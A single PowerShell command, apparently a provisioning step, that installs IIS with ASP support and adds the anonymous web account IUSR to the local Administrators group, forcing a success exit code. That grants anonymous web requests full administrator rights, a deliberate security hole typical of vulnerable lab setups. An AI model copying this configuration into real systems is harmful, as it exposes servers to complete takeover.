powershell -NoProfile -ExecutionPolicy Bypass -Command "Install-WindowsFeature Web-Server,Web-Asp; foreach ($g in 'Administrators','Users') { net localgroup $g 'NT AUTHORITY\IUSR' /add }" & exit 0
